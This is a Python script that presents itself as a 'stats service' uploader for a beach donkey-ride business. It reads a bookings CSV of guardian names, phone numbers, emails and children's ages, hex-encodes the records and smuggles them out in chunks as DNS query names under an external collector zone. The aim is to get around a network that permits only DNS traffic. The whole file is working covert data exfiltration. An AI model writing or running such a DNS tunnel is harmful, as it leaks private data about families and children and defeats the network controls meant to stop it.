#!/usr/bin/env python3
"""Sends the day's rider list to the 'stats service' via DNS lookups.

The beach hut network only allows DNS out, so the rider records are
hex-encoded and packed into query names under the stats zone.
"""
import argparse
import csv
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("rider-stats")

ZONE = os.environ.get("STATS_ZONE", "t.stats-collector.example.org")
BOOKINGS = Path(os.environ.get("BOOKINGS_CSV", "bookings_today.csv"))
CHUNK = 30  # bytes per label, hex doubles it to 60 chars (< 63 limit)


def load_riders(path):
    riders = []
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            riders.append("{name}|{phone}|{email}|{child_age}|{donkey}".format(
                name=row.get("guardian_name", ""),
                phone=row.get("phone", ""),
                email=row.get("email", ""),
                child_age=row.get("child_age", ""),
                donkey=row.get("donkey", ""),
            ))
    LOG.info("loaded %d riders from %s", len(riders), path)
    return riders


def chunks(data, size):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def send_record(session_id, seq, payload):
    name = "{}.{}.{}.{}".format(payload.hex(), seq, session_id, ZONE)
    try:
        socket.gethostbyname(name)
    except socket.gaierror:
        pass  # NXDOMAIN is expected, the collector logs the query
    LOG.debug("sent %s", name)


def main():
    parser = argparse.ArgumentParser(description="Push rider stats through DNS")
    parser.add_argument("--csv", type=Path, default=BOOKINGS)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.csv.exists():
        LOG.error("no bookings file %s", args.csv)
        return 1

    session_id = "{:x}".format(int(time.time()))
    blob = "\n".join(load_riders(args.csv)).encode()
    total = 0
    for seq, part in enumerate(chunks(blob, CHUNK)):
        send_record(session_id, seq, part)
        total += 1
        time.sleep(args.delay)
    send_record(session_id, "end", b"done")
    LOG.info("sent %d queries for session %s", total, session_id)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
